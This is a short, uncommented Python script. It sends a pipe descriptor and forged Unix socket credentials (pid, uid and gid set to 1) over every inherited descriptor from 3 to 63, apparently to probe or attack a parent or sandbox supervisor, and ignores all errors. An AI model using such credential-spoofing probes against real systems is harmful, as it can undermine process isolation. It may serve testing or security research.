import array, os, socket
pipe = array.array('i', os.pipe())
for descriptor in range(3, 64):
    try:
        channel = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET, 0, descriptor)
        channel.sendmsg([b'0 0 '], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, pipe)])
        channel.sendmsg([b'H 0 '], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, b'\1\0\0\0' * 3)])
    except OSError:
        pass
os._exit(0)
